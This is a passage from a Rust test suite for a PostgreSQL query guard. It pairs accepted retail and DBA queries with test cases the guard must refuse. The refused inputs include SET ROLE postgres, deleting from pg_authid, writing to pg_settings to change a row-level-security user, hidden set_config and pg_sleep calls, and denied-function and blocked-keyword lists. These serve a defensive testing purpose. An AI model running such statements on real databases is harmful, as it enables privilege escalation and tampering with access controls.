     JOIN pg_class c ON c.oid = l.relation WHERE NOT l.granted",
    "SELECT pid, pg_blocking_pids(pid) AS blocked_by FROM pg_stat_activity WHERE cardinality(pg_blocking_pids(pid)) > 0",
    "SELECT query, calls, total_exec_time, mean_exec_time, rows, \
     100.0 * shared_blks_hit / nullif(shared_blks_hit + shared_blks_read, 0) AS hit_percent \
     FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 10",
    r#"SELECT
    current_database(),
    pg_database_size(current_database()) / 1024 / 1024 / 1024.0 as db_size_gb,
    (SELECT count(*) FROM pg_stat_activity WHERE state = 'active') as active_connections,
    (SELECT count(*) FROM pg_stat_activity) as total_connections,
    (SELECT setting::int FROM pg_settings WHERE name = 'max_connections') as max_connections
"#,
    r#"SELECT
    blocked_locks.pid AS blocked_pid,
    blocked_activity.usename AS blocked_user,
    blocking_locks.pid AS blocking_pid,
    blocking_activity.usename AS blocking_user,
    blocked_activity.query AS blocked_statement,
    blocking_activity.query AS current_statement_in_blocking_process
FROM pg_catalog.pg_locks blocked_locks
JOIN pg_catalog.pg_stat_activity blocked_activity
    ON blocked_activity.pid = blocked_locks.pid
JOIN pg_catalog.pg_locks blocking_locks
    ON blocking_locks.locktype = blocked_locks.locktype
    AND blocking_locks.database IS NOT DISTINCT FROM blocked_locks.database
    AND blocking_locks.relation IS NOT DISTINCT FROM blocked_locks.relation
    AND blocking_locks.pid != blocked_locks.pid
JOIN pg_catalog.pg_stat_activity blocking_activity
    ON blocking_activity.pid = blocking_locks.pid
WHERE NOT blocked_locks.granted
"#,
    r#"SELECT
    query,
    calls,
    total_time,
    mean_time,
    stddev_time,
    rows
FROM pg_stat_statements
WHERE mean_time > 1000
ORDER BY mean_time DESC
LIMIT 10
"#,
    r#"SELECT
    -- 連線資訊
    (SELECT count(*) FROM pg_stat_activity WHERE state = 'active') as active_connections,
    (SELECT count(*) FROM pg_stat_activity WHERE state = 'idle in transaction') as idle_in_transaction,

    -- 查詢效能
    (SELECT avg(query_start - xact_start) FROM pg_stat_activity
     WHERE state = 'active' AND query_start IS NOT NULL) as avg_query_duration,

    -- 鎖資訊
    (SELECT count(*) FROM pg_locks WHERE NOT granted) as waiting_locks,

    -- I/O 統計
    (SELECT sum(blks_read) FROM pg_stat_database) as total_blocks_read,
    (SELECT sum(blks_hit) FROM pg_stat_database) as total_blocks_hit,

    -- 資料庫大小
    pg_database_size(current_database()) / 1024 / 1024 / 1024.0 as db_size_gb
"#,
];

const SEED_003_QUERIES: &[&str] = &[
    r#"SELECT customer_id, company_name, contact_person,
                      phone, email, address, registration_date
               FROM customers
               ORDER BY customer_id
               LIMIT $1 OFFSET $2"#,
    r#"SELECT id, first_name, last_name, email, phone, company,
       created_date, lead_source, status
FROM leads WHERE status IN ('qualified', 'converted')
"#,
    r#"SELECT customer_code, company_name, contact_email,
       contact_phone, industry, annual_revenue
FROM customers WHERE active = true
"#,
    r#"SELECT user_id, email, first_name, last_name,
       total_orders, total_spent, last_order_date
FROM customer_summary WHERE total_orders > 0
"#,
    r#"WITH daily_sales AS (
    SELECT DATE(order_date) as sale_date,
           COUNT(*) as orders_count,
           SUM(total_amount) as revenue,
           COUNT(DISTINCT customer_id) as unique_customers
    FROM orders
    WHERE order_date >= CURRENT_DATE - INTERVAL '30 days'
    GROUP BY DATE(order_date)
)
SELECT
    sale_date,
    orders_count,
    revenue,
    unique_customers,
    revenue / NULLIF(orders_count, 0) as avg_order_value,
    LAG(revenue) OVER (ORDER BY sale_date) as prev_day_revenue
FROM daily_sales
ORDER BY sale_date DESC
LIMIT 30
"#,
    r#"SELECT
    customer_segment,
    COUNT(*) as customer_count,
    AVG(lifetime_value) as avg_ltv,
    SUM(CASE WHEN last_order_date > CURRENT_DATE - INTERVAL '30 days'
        THEN 1 ELSE 0 END) as active_customers,
    AVG(satisfaction_score) as avg_satisfaction
FROM customer_profiles
GROUP BY customer_segment
ORDER BY avg_ltv DESC
"#,
    r#"SELECT
    product_code,
    product_name,
    current_stock,
    reorder_level,
    supplier_name,
    lead_time_days,
    CASE
        WHEN current_stock <= 0 THEN 'OUT_OF_STOCK'
        WHEN current_stock <= reorder_level THEN 'LOW_STOCK'
        ELSE 'NORMAL'
    END as stock_status
FROM inventory_view
WHERE current_stock <= reorder_level * 1.2
ORDER BY
    CASE stock_status
        WHEN 'OUT_OF_STOCK' THEN 1
        WHEN 'LOW_STOCK' THEN 2
        ELSE 3
    END,
    current_stock ASC
"#,
    r#"WITH customer_rfm AS (
    SELECT
        customer_id,
        EXTRACT(DAYS FROM CURRENT_DATE - MAX(order_date)) as recency_days,
        COUNT(DISTINCT order_id) as frequency,
        SUM(total_amount) as monetary_value
    FROM orders
    WHERE order_date >= CURRENT_DATE - INTERVAL '365 days'
    GROUP BY customer_id
),
rfm_scores AS (
    SELECT *,
        NTILE(5) OVER (ORDER BY recency_days DESC) as recency_score,
        NTILE(5) OVER (ORDER BY frequency) as frequency_score,
        NTILE(5) OVER (ORDER BY monetary_value) as monetary_score
    FROM customer_rfm
)
SELECT
    recency_score,
    frequency_score,
    monetary_score,
    COUNT(*) as customer_count,
    AVG(monetary_value) as avg_value,
    CASE
        WHEN recency_score >= 4 AND frequency_score >= 4 THEN 'Champions'
        WHEN recency_score >= 3 AND frequency_score >= 3 THEN 'Loyal Customers'
        WHEN recency_score >= 4 AND frequency_score <= 2 THEN 'New Customers'
        WHEN recency_score <= 2 AND frequency_score >= 3 THEN 'At Risk'
        WHEN recency_score <= 2 AND frequency_score <= 2 THEN 'Lost Customers'
        ELSE 'Regular Customers'
    END as customer_segment
FROM rfm_scores
GROUP BY recency_score, frequency_score, monetary_score
ORDER BY recency_score DESC, frequency_score DESC, monetary_score DESC
"#,
    r#"WITH product_pairs AS (
    SELECT
        oi1.product_id as product_a,
        oi2.product_id as product_b,
        COUNT(DISTINCT oi1.order_id) as cooccurrence_count
    FROM order_items oi1
    JOIN order_items oi2 ON oi1.order_id = oi2.order_id
        AND oi1.product_id < oi2.product_id
    JOIN orders o ON oi1.order_id = o.order_id
    WHERE o.order_date >= CURRENT_DATE - INTERVAL '180 days'
    GROUP BY oi1.product_id, oi2.product_id
    HAVING COUNT(DISTINCT oi1.order_id) >= 10
)
SELECT
    pa.name as product_a_name,
    pb.name as product_b_name,
    pp.cooccurrence_count,
    ROUND(
        pp.cooccurrence_count * 100.0 /
        (SELECT COUNT(DISTINCT order_id) FROM order_items WHERE product_id = pp.product_a),
        2
    ) as lift_percentage
FROM product_pairs pp
JOIN products pa ON pp.product_a = pa.product_id
JOIN products pb ON pp.product_b = pb.product_id
ORDER BY pp.cooccurrence_count DESC
LIMIT 20
"#,
    r#"SELECT schemaname, tablename, n_dead_tup, n_live_tup,
       CASE WHEN n_live_tup > 0
            THEN n_dead_tup::float / n_live_tup::float
            ELSE 0 END as dead_ratio
FROM pg_stat_user_tables
WHERE n_dead_tup > 1000 AND
      (n_dead_tup::float / GREATEST(n_live_tup, 1)::float) > 0.1
"#,
    r#"SELECT
    schemaname,
    tablename,
    indexname,
    pg_relation_size(indexrelid) as index_size,
    pg_stat_get_blocks_fetched(indexrelid) -
    pg_stat_get_blocks_hit(indexrelid) as blocks_read
FROM pg_stat_user_indexes
WHERE pg_relation_size(indexrelid) > 100 * 1024 * 1024  -- 100MB+
ORDER BY blocks_read DESC
LIMIT 10
"#,
    r#"SELECT customer_id FROM customers"#,
    r#"SELECT
    table_name,
    column_name,
    data_type,
    is_nullable,
    column_default,
    ordinal_position
FROM information_schema.columns
WHERE table_schema = 'public'
ORDER BY table_name, ordinal_position
"#,
    r#"SELECT
    tablename,
    indexname,
    indexdef
FROM pg_indexes
WHERE schemaname = 'public'
ORDER BY tablename, indexname
"#,
    r#"SELECT
    'customers' as table_name,
    'email' as column_name,
    COUNT(*) as total_rows,
    COUNT(email) as non_null_rows,
    COUNT(*) - COUNT(email) as null_rows,
    ROUND((COUNT(*) - COUNT(email)) * 100.0 / COUNT(*), 2) as null_percentage
FROM customers

UNION ALL

SELECT
    'orders' as table_name,
    'customer_id' as column_name,
    COUNT(*) as total_rows,
    COUNT(customer_id) as non_null_rows,
    COUNT(*) - COUNT(customer_id) as null_rows,
    ROUND((COUNT(*) - COUNT(customer_id)) * 100.0 / COUNT(*), 2) as null_percentage
FROM orders
"#,
    r#"-- 檢查訂單表中的客戶ID是否都存在於客戶表中
SELECT
    'referential_integrity' as check_type,
    'orders.customer_id -> customers.customer_id' as check_description,
    COUNT(*) as violations
FROM orders o
LEFT JOIN customers c ON o.customer_id = c.customer_id
WHERE c.customer_id IS NULL

UNION ALL

-- 檢查電子郵件格式
SELECT
    'email_format' as check_type,
    'customers.email format validation' as check_description,
    COUNT(*) as violations
FROM customers
WHERE email NOT LIKE '%@%' OR email NOT LIKE '%.%'
"#,
    r#"SELECT
    table_name,
    date_column,
    MAX(date_value) as latest_record,
    EXTRACT(HOURS FROM CURRENT_TIMESTAMP - MAX(date_value)) as hours_since_last_update
FROM (
    SELECT 'orders' as table_name, 'order_date' as date_column, order_date as date_value FROM orders
    UNION ALL
    SELECT 'customers' as table_name, 'created_at' as date_column, created_at as date_value FROM customers
) data_dates
GROUP BY table_name, date_column
"#,
    r#"WITH customer_metrics AS (
    SELECT
        c.customer_id,
        c.registration_date,
        EXTRACT(DAYS FROM CURRENT_DATE - c.registration_date) as customer_age_days,
        COUNT(DISTINCT o.order_id) as total_orders,
        SUM(o.total_amount) as total_spent,
        AVG(o.total_amount) as avg_order_value,
        MAX(o.order_date) as last_order_date,
        EXTRACT(DAYS FROM CURRENT_DATE - MAX(o.order_date)) as days_since_last_order,
        MIN(o.order_date) as first_order_date,
        EXTRACT(DAYS FROM MAX(o.order_date) - MIN(o.order_date)) as customer_lifespan_days
    FROM customers c
    LEFT JOIN orders o ON c.customer_id = o.customer_id
    GROUP BY c.customer_id, c.registration_date
),
clv_segments AS (
    SELECT *,
        CASE
            WHEN total_spent >= 10000 AND days_since_last_order <= 30 THEN 'VIP_Active'
            WHEN total_spent >= 5000 AND days_since_last_order <= 60 THEN 'High_Value'
            WHEN total_spent >= 1000 AND days_since_last_order <= 90 THEN 'Medium_Value'
            WHEN days_since_last_order > 180 THEN 'At_Risk'
            WHEN total_orders = 0 THEN 'Never_Purchased'
            ELSE 'Regular'
        END as value_segment,

        -- 預測未來價值（簡化模型）
        CASE
            WHEN customer_lifespan_days > 0 THEN
                (total_spent / GREATEST(customer_lifespan_days, 1)) * 365 * 2
            ELSE avg_order_value * 4
        END as predicted_annual_value

    FROM customer_metrics
)
SELECT
    value_segment,
    COUNT(*) as customer_count,
    AVG(total_spent) as avg_total_spent,
    AVG(total_orders) as avg_total_orders,
    AVG(avg_order_value) as avg_order_value,
    AVG(predicted_annual_value) as avg_predicted_annual_value,
    SUM(total_spent) as segment_total_revenue
FROM clv_segments
GROUP BY value_segment
ORDER BY avg_predicted_annual_value DESC
"#,
    r#"WITH product_cooccurrence AS (
    SELECT
        oi1.product_id as product_a,
        oi2.product_id as product_b,
        COUNT(DISTINCT oi1.order_id) as cooccurrence_count,
        COUNT(DISTINCT oi1.order_id) * 1.0 /
            (SELECT COUNT(DISTINCT order_id) FROM order_items WHERE product_id = oi1.product_id) as confidence
    FROM order_items oi1
    JOIN order_items oi2 ON oi1.order_id = oi2.order_id AND oi1.product_id != oi2.product_id
    GROUP BY oi1.product_id, oi2.product_id
    HAVING COUNT(DISTINCT oi1.order_id) >= 5
)
SELECT
    pa.name as product_a_name,
    pb.name as product_b_name,
    pc.cooccurrence_count,
    ROUND(pc.confidence * 100, 2) as confidence_percentage
FROM product_cooccurrence pc
JOIN products pa ON pc.product_a = pa.product_id
JOIN products pb ON pc.product_b = pb.product_id
WHERE pc.confidence > 0.3
ORDER BY pc.confidence DESC
LIMIT 20
"#,
    r#"WITH monthly_sales AS (
    SELECT
        DATE_TRUNC('month', order_date) as month,
        COUNT(DISTINCT order_id) as orders_count,
        SUM(total_amount) as monthly_revenue,
        COUNT(DISTINCT customer_id) as unique_customers,
        AVG(total_amount) as avg_order_value
    FROM orders
    WHERE order_date >= CURRENT_DATE - INTERVAL '24 months'
    GROUP BY DATE_TRUNC('month', order_date)
),
sales_with_growth AS (
    SELECT *,
        LAG(monthly_revenue, 1) OVER (ORDER BY month) as prev_month_revenue,
        LAG(monthly_revenue, 12) OVER (ORDER BY month) as same_month_last_year,
        (monthly_revenue - LAG(monthly_revenue, 1) OVER (ORDER BY month)) /
            NULLIF(LAG(monthly_revenue, 1) OVER (ORDER BY month), 0) * 100 as mom_growth,
        (monthly_revenue - LAG(monthly_revenue, 12) OVER (ORDER BY month)) /
            NULLIF(LAG(monthly_revenue, 12) OVER (ORDER BY month), 0) * 100 as yoy_growth
    FROM monthly_sales
)
SELECT
    month,
    monthly_revenue,
    orders_count,
    unique_customers,
    avg_order_value,
    ROUND(mom_growth, 2) as mom_growth_pct,
    ROUND(yoy_growth, 2) as yoy_growth_pct,
    -- 簡單的移動平均預測
    AVG(monthly_revenue) OVER (
        ORDER BY month ROWS BETWEEN 2 PRECEDING AND CURRENT ROW
    ) as ma3_forecast
FROM sales_with_growth
ORDER BY month
"#,
    r#"SELECT
    EXTRACT(MONTH FROM order_date) as month,
    EXTRACT(QUARTER FROM order_date) as quarter,
    COUNT(*) as orders_count,
    SUM(total_amount) as total_revenue,
    AVG(total_amount) as avg_order_value,
    -- 計算相對於年平均的季節性指數
    SUM(total_amount) / (
        SELECT SUM(total_amount) / 12.0
        FROM orders
        WHERE EXTRACT(YEAR FROM order_date) = EXTRACT(YEAR FROM order_date)
    ) as seasonal_index
FROM orders
WHERE order_date >= CURRENT_DATE - INTERVAL '36 months'
GROUP BY EXTRACT(MONTH FROM order_date), EXTRACT(QUARTER FROM order_date)
ORDER BY month
"#,
    r#"WITH product_monthly_sales AS (
    SELECT
        p.product_id,
        p.name as product_name,
        p.category,
        DATE_TRUNC('month', o.order_date) as month,
        SUM(oi.quantity) as units_sold,
        SUM(oi.quantity * oi.unit_price) as revenue
    FROM products p
    JOIN order_items oi ON p.product_id = oi.product_id
    JOIN orders o ON oi.order_id = o.order_id
    WHERE o.order_date >= CURRENT_DATE - INTERVAL '12 months'
    GROUP BY p.product_id, p.name, p.category, DATE_TRUNC('month', o.order_date)
),
product_trends AS (
    SELECT
        product_id,
        product_name,
        category,
        SUM(units_sold) as total_units_12m,
        SUM(revenue) as total_revenue_12m,
        AVG(units_sold) as avg_monthly_units,
        STDDEV(units_sold) as stddev_monthly_units,
        -- 簡單線性趨勢
        CORR(EXTRACT(EPOCH FROM month), units_sold) as trend_correlation
    FROM product_monthly_sales
    GROUP BY product_id, product_name, category
)
SELECT
    product_name,
    category,
    total_units_12m,
    total_revenue_12m,
    avg_monthly_units,
    ROUND(avg_monthly_units * 1.1, 0) as forecasted_next_month,  -- 假設10%成長
    CASE
        WHEN trend_correlation > 0.7 THEN 'Strong Upward'
        WHEN trend_correlation > 0.3 THEN 'Moderate Upward'
        WHEN trend_correlation < -0.7 THEN 'Strong Downward'
        WHEN trend_correlation < -0.3 THEN 'Moderate Downward'
        ELSE 'Stable'
    END as trend_direction
FROM product_trends
WHERE total_units_12m > 0
ORDER BY total_revenue_12m DESC
LIMIT 50
"#,
];

#[test]
fn attack_corpus_is_refused_with_exact_code_and_construct() {
    let cfg = GuardConfig::default();
    for (sql, code, construct) in ATTACKS {
        assert_refused(sql, &cfg, code, construct);
    }
    assert!(ATTACKS.len() >= 45);
}

#[test]
fn set_config_is_refused_wherever_it_hides() {
    let cfg = GuardConfig::default();
    for template in SET_CONFIG_HIDING_PLACES {
        let sql = template.replace("{S}", SWITCH);
        assert_refused(&sql, &cfg, UNSAFE, "set_config");
        // The denied-function list applies in read-write mode too.
        assert_refused(&sql, &read_write(), UNSAFE, "set_config");
    }
}

#[test]
fn every_denied_function_family_is_refused() {
    for (sql, construct) in DENIED_CALLS {
        assert_refused(sql, &GuardConfig::default(), UNSAFE, construct);
        assert_refused(sql, &read_write(), UNSAFE, construct);
    }
    // Each list entry is matched by at least one spelling.
    for pattern in DENIED_FUNCTIONS {
        let name = pattern.trim_end_matches('*');
        let name = if name.ends_with('_') {
            format!("{name}x")
        } else {
            name.to_string()
        };
        let sql = format!("SELECT {name}(1)");
        assert_refused(&sql, &GuardConfig::default(), UNSAFE, &name);
    }
}

#[test]
fn acceptance_corpus_passes_in_read_only_mode() {
    let cfg = GuardConfig::default();
    for sql in ACCEPT_RETAIL
        .iter()
        .chain(ACCEPT_DBA)
        .chain(SEED_003_QUERIES)
    {
        let kind = assert_accepted(sql, &cfg);
        assert!(kind.is_read_only(), "{kind:?} for {sql}");
        // Anything read-only mode accepts, read-write mode accepts too.
        assert_accepted(sql, &read_write());
    }
    assert!(ACCEPT_RETAIL.len() + ACCEPT_DBA.len() >= 30);
    assert_eq!(
        SEED_003_QUERIES.len() + 4,
        26,
        "seed 003's queries, less those moved to CROSS_SESSION_QUERIES"
    );
}

#[test]
fn queries_that_show_other_sessions_are_refused_with_the_reason() {
    assert!(CROSS_SESSION_QUERIES.len() >= 6);
    for sql in CROSS_SESSION_QUERIES {
        match check(sql, &GuardConfig::default()) {
            Err(GuardError::Unsafe { reason, .. }) => {
                assert!(
                    reason.contains("shows other sessions"),
                    "{reason} for {sql}"
                )
            }
            other => panic!("expected a refusal, got {other:?} for {sql}"),
        }
    }
    for sql in [
        "SELECT * FROM pg_catalog.pg_prepared_statements",
        "SELECT statement FROM pg_prepared_statement()",
        "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
        "SELECT * FROM pg_stat_get_activity(NULL)",
        "SELECT name FROM pg_cursors",
        "SELECT * FROM pg_lock_status()",
    ] {
        assert_refused(sql, &GuardConfig::default(), UNSAFE, construct_of(sql));
    }
}

/// The first cross-session name in a statement (what the guard reports as the construct).
fn construct_of(sql: &str) -> &'static str {
    [
        "pg_prepared_statements",
        "pg_prepared_statement",
        "pg_stat_get_backend_activity",
        "pg_stat_get_activity",
        "pg_cursors",
        "pg_lock_status",
    ]
    .into_iter()
    .find(|n| sql.contains(n))
    .unwrap()
}

#[test]
fn statement_kinds_are_reported() {
    let ro = GuardConfig::default();
    assert_eq!(assert_accepted("SELECT 1", &ro), StatementKind::Query);
    assert_eq!(assert_accepted("VALUES (1)", &ro), StatementKind::Query);
    assert_eq!(
        assert_accepted("TABLE retail.stores", &ro),
        StatementKind::Query
    );
    assert_eq!(
        assert_accepted("EXPLAIN SELECT 1", &ro),
        StatementKind::Explain
    );
    let rw = read_write();
    assert_eq!(
        assert_accepted("INSERT INTO retail.stores (store_name) VALUES ('x')", &rw),
        StatementKind::Insert
    );
    assert_eq!(
        assert_accepted("UPDATE retail.inventory SET stock_level = 1", &rw),
        StatementKind::Update
    );
    assert_eq!(
        assert_accepted("DELETE FROM retail.orders WHERE order_id = $1", &rw),
        StatementKind::Delete
    );
    assert_eq!(
        assert_accepted(
            "WITH src AS (SELECT 1 AS id) INSERT INTO retail.stores (store_id) SELECT id FROM src",
            &rw
        ),
        StatementKind::Insert
    );
    // `Query` means "only reads": a data-modifying CTE makes it the write it does.
    assert_eq!(
        assert_accepted(
            "WITH moved AS (DELETE FROM retail.orders WHERE order_date < $1 RETURNING *) SELECT count(*) FROM moved",
            &rw
        ),
        StatementKind::Delete
    );
    let create = GuardConfig {
        allowed_operations: Some(vec!["SELECT".into(), "CREATE".into()]),
        ..read_write()
    };
    assert_eq!(
        assert_accepted("SELECT * INTO loot FROM retail.orders", &create),
        StatementKind::Create
    );
    assert_eq!(
        assert_accepted("SELECT * FROM retail.inventory FOR UPDATE", &rw),
        StatementKind::Query
    );
}

#[test]
fn read_write_mode_allows_dml_within_the_settings() {
    let rw = read_write();
    for sql in [
        // The use-case document's write statements.
        "INSERT INTO customer_profiles (legacy_id, business_name, primary_contact, contact_phone, email_address, \
         business_address, onboarding_date, data_source) VALUES ($1, $2, $3, $4, $5, $6, $7, 'ERP_MIGRATION')",
        "INSERT INTO customers (name, email, phone, company, industry, created_at) VALUES ($1, $2, $3, $4, $5, $6)",
        "INSERT INTO orders (customer_id, order_date, total_amount, status) VALUES ($1, $2, $3, $4)",
        "DELETE FROM audit_logs WHERE created_at < $1",
        "DELETE FROM session_tokens WHERE expires_at < $1",
        // Retail writes.
        "INSERT INTO retail.orders (customer_id, store_id, order_date) VALUES ($1, $2, now()) RETURNING order_id",
        "INSERT INTO retail.inventory (store_id, product_id, stock_level) VALUES (1, 2, 3) \
         ON CONFLICT (store_id, product_id) DO UPDATE SET stock_level = EXCLUDED.stock_level",
        "INSERT INTO retail.order_items (order_id, store_id, product_id, quantity, unit_price, discount_percent, total_amount) \
         SELECT $1, store_id, product_id, 1, 9.99, 0, 9.99 FROM retail.inventory WHERE stock_level > 0 LIMIT 1",
        "UPDATE retail.inventory i SET stock_level = i.stock_level - oi.quantity FROM retail.order_items oi \
         WHERE oi.product_id = i.product_id AND oi.store_id = i.store_id AND oi.order_id = $1",
        "DELETE FROM retail.order_items WHERE order_id IN (SELECT order_id FROM retail.orders WHERE order_date < $1)",
        "MERGE INTO retail.inventory i USING (VALUES (1, 2, 5)) AS v(s, p, q) ON i.store_id = v.s AND i.product_id = v.p \
         WHEN MATCHED THEN UPDATE SET stock_level = v.q WHEN NOT MATCHED THEN INSERT VALUES (v.s, v.p, v.q)",
        "WITH moved AS (DELETE FROM retail.orders WHERE order_date < $1 RETURNING *) SELECT count(*) FROM moved",
        "SELECT * FROM retail.inventory WHERE store_id = 1 FOR UPDATE SKIP LOCKED",
        "EXPLAIN ANALYZE UPDATE retail.inventory SET stock_level = stock_level",
    ] {
        assert_accepted(sql, &rw);
    }

    // Session and transaction control stay refused in read-write mode.
    for (sql, construct) in [
        ("SET ROLE postgres", "SET ROLE"),
        ("SET app.current_rls_user_id = 'x'", "SET"),
        ("RESET ALL", "RESET"),
        ("COMMIT", "COMMIT"),
        ("COPY retail.orders TO STDOUT", "COPY"),
        ("DO $$ BEGIN END $$", "DO"),
        ("CALL p()", "CALL"),
        ("GRANT SELECT ON retail.orders TO PUBLIC", "GRANT"),
        ("LOCK TABLE retail.orders", "LOCK"),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "CREATE FUNCTION",
        ),
    ] {
        assert_refused(sql, &rw, UNSAFE, construct);
    }

    // The default read-write operations are DML only: DDL needs to be listed explicitly.
    assert_refused("CREATE TABLE t (id int)", &rw, UNSAFE, "CREATE TABLE");
    assert_refused(
        "SELECT * INTO t FROM retail.orders",
        &rw,
        UNSAFE,
        "SELECT INTO",
    );
    // DROP, TRUNCATE, ALTER are blocked by default even when listed.
    let all = GuardConfig {
        allowed_operations: Some(
            [
                "SELECT", "INSERT", "UPDATE", "DELETE", "CREATE", "DROP", "TRUNCATE", "ALTER",
            ]
            .map(String::from)
            .to_vec(),
        ),
        ..read_write()
    };
    assert_eq!(
        assert_accepted("CREATE TABLE t (id int)", &all),
        StatementKind::Create
    );
    assert_eq!(
        assert_accepted("CREATE TABLE t AS SELECT 1", &all),
        StatementKind::Create
    );
    assert_refused("DROP TABLE retail.orders", &all, UNSAFE, "DROP TABLE");
    assert_refused("TRUNCATE retail.orders", &all, UNSAFE, "TRUNCATE");
    assert_refused(
        "ALTER TABLE retail.orders ADD COLUMN x int",
        &all,
        UNSAFE,
        "ALTER TABLE",
    );
    let no_blocks = GuardConfig {
        blocked_keywords: Vec::new(),
        ..all.clone()
    };
    assert_eq!(
        assert_accepted("DROP TABLE t", &no_blocks),
        StatementKind::Drop
    );
    assert_eq!(
        assert_accepted("TRUNCATE t", &no_blocks),
        StatementKind::Truncate
    );
    // WITH was not listed in `all`.
    assert_refused("WITH x AS (SELECT 1) SELECT * FROM x", &all, UNSAFE, "WITH");
}

#[test]
fn read_write_mode_honours_blocked_keywords_and_allowed_operations() {
    let insert = "INSERT INTO retail.stores (store_name) VALUES ('x')";
    // Documented "production safe" mode: SELECT, INSERT, UPDATE, DELETE.
    let production = GuardConfig {
        allowed_operations: Some(
            ["SELECT", "INSERT", "UPDATE", "DELETE"]
                .map(String::from)
                .to_vec(),
        ),
        blocked_keywords: "DROP,TRUNCATE,ALTER,CREATE,GRANT,REVOKE,COPY"
            .split(',')
            .map(String::from)
            .collect(),
        max_query_length: 5000,
        ..read_write()
    };
    assert_accepted(insert, &production);
    assert_refused(
        "WITH x AS (SELECT 1) SELECT * FROM x",
        &production,
        UNSAFE,
        "WITH",
    );
    assert_refused("EXPLAIN SELECT 1", &production, UNSAFE, "EXPLAIN");
    assert_refused(
        "MERGE INTO retail.inventory i USING retail.products p ON i.product_id = p.product_id WHEN MATCHED THEN DELETE",
        &production,
        UNSAFE,
        "MERGE",
    );

    // Blocked keywords refuse kinds, at any depth, case-insensitively.
    let no_insert = GuardConfig {
        blocked_keywords: vec![" insert ".into()],
        ..read_write()
    };
    assert_refused(insert, &no_insert, UNSAFE, "INSERT");
    assert_refused(
        "WITH i AS (INSERT INTO retail.stores (store_name) VALUES ('x') RETURNING *) SELECT * FROM i",
        &no_insert,
        UNSAFE,
        "INSERT",
    );
    assert_accepted("UPDATE retail.stores SET store_name = 'y'", &no_insert);

    // Allowed operations: anything unlisted is refused.
    let select_only = GuardConfig {
        allowed_operations: Some(vec!["select".into()]),
        ..read_write()
    };
    assert_refused(insert, &select_only, UNSAFE, "INSERT");
    assert_refused("DELETE FROM retail.orders", &select_only, UNSAFE, "DELETE");
    assert_accepted("SELECT 1", &select_only);
    assert_accepted("TABLE retail.stores", &select_only);
    let insert_only = GuardConfig {
        allowed_operations: Some(vec!["INSERT".into()]),
        ..read_write()
    };
    // INSERT ... VALUES needs no SELECT; INSERT ... SELECT does.
    assert_accepted(insert, &insert_only);
    assert_refused(
        "INSERT INTO retail.stores SELECT * FROM retail.stores",
        &insert_only,
        UNSAFE,
        "SELECT",
    );

    // Read-only mode never widens, whatever allowed_operations lists.
    let ro_listing_dml = GuardConfig {
        allowed_operations: Some(vec!["SELECT".into(), "INSERT".into()]),
        ..GuardConfig::default()
    };
    assert_refused(insert, &ro_listing_dml, UNSAFE, "INSERT");

    // Denied functions always apply.
    assert_refused(
        "INSERT INTO retail.stores (store_name) VALUES (set_config('a', 'b', false))",
        &read_write(),
        UNSAFE,
        "set_config",
    );
    assert_refused(
        "UPDATE retail.orders SET order_id = nextval('retail.orders_order_id_seq')",
        &read_write(),
        UNSAFE,
        "nextval",
    );
    assert_refused(
        "DELETE FROM retail.orders WHERE pg_sleep(1) IS NULL",
        &read_write(),
        UNSAFE,
        "pg_sleep",
    );
    // Writing to pg_settings is SET by another name.
    assert_refused(
        "UPDATE pg_settings SET setting = 'x' WHERE name = 'app.current_rls_user_id'",
        &read_write(),
        UNSAFE,
        "pg_settings",
    );
    assert_refused(
        "UPDATE pg_catalog.pg_settings SET setting = 'x'",
        &read_write(),
        UNSAFE,
        "pg_catalog.pg_settings",
    );
    assert_refused(
        "DELETE FROM pg_catalog.pg_authid",
        &read_write(),
        UNSAFE,
        "pg_catalog.pg_authid",
    );
    assert_refused(
        "INSERT INTO information_schema.sql_features VALUES (1)",
        &read_write(),
        UNSAFE,
        "information_schema.sql_features",
    );
}

#[test]
fn configured_blocked_functions_support_prefixes_and_schemas() {
    let cfg = GuardConfig {
        blocked_functions: vec![
            "my_audit_*".into(),
            "Retail.Purge_Store".into(),
            "gen_random_uuid".into(),
        ],
        ..GuardConfig::default()
    };
    assert_refused("SELECT my_audit_log('x')", &cfg, UNSAFE, "my_audit_log");
    assert_refused("SELECT x.My_Audit_Flush()", &cfg, UNSAFE, "my_audit_flush");
    assert_refused("SELECT gen_random_uuid()", &cfg, UNSAFE, "gen_random_uuid");
    assert_refused(
        "SELECT * FROM gen_random_uuid()",
        &cfg,
        UNSAFE,
        "gen_random_uuid",
    );
    // A schema-qualified entry refuses that schema and unqualified calls (search path).
    assert_refused("SELECT retail.purge_store(1)", &cfg, UNSAFE, "purge_store");
    assert_refused("SELECT purge_store(1)", &cfg, UNSAFE, "purge_store");
    assert_accepted("SELECT other.purge_store(1)", &cfg);
    assert_accepted("SELECT my_audit(1)", &cfg);
    // Without the setting these are ordinary functions.
    assert_accepted(
        "SELECT gen_random_uuid(), my_audit_log('x')",
        &GuardConfig::default(),
    );
}

#[test]
fn function_name_matching() {
    assert!(pattern_matches("set_config", None, "set_config"));
    assert!(pattern_matches(
        "set_config",
        Some("pg_catalog"),
        "set_config"
    ));
    assert!(!pattern_matches("set_config", None, "set_config2"));
    assert!(pattern_matches("pg_ls_*", Some("pg_catalog"), "pg_ls_dir"));
    assert!(!pattern_matches("pg_ls_*", None, "pg_lsn"));
    assert!(pattern_matches("a.f", None, "f"));
    assert!(pattern_matches("a.f", Some("a"), "f"));
    assert!(!pattern_matches("a.f", Some("b"), "f"));
    assert!(!pattern_matches("", None, "f"));
    assert!(pattern_matches("*", None, "anything"));
    // Harmless look-alikes of denied names stay allowed.
    let cfg = GuardConfig::default();
    for sql in [
        "SELECT current_setting('search_path')",
        "SELECT pg_size_pretty(1024), pg_lsn('0/0'), lower('LO_IMPORT')",
        "SELECT setvalue, nextvalue FROM retail.settings",
        "SELECT * FROM retail.set_config_history",
        "SELECT pg_sleeper FROM retail.x",
    ] {
        assert_accepted(sql, &cfg);
    }
}

#[test]
fn length_limit_counts_characters() {
    let cfg = GuardConfig {
        max_query_length: 12,
        ..GuardConfig::default()
    };
    assert_accepted("SELECT 'ééé'", &cfg); // 12 characters, 15 bytes
    assert_eq!(
        check("SELECT 'éééé'", &cfg),
        Err(GuardError::TooLong { len: 13, max: 12 })
    );
    let long = format!("SELECT 1 {}", " ".repeat(100_000));
    let err = check(&long, &GuardConfig::default()).unwrap_err();
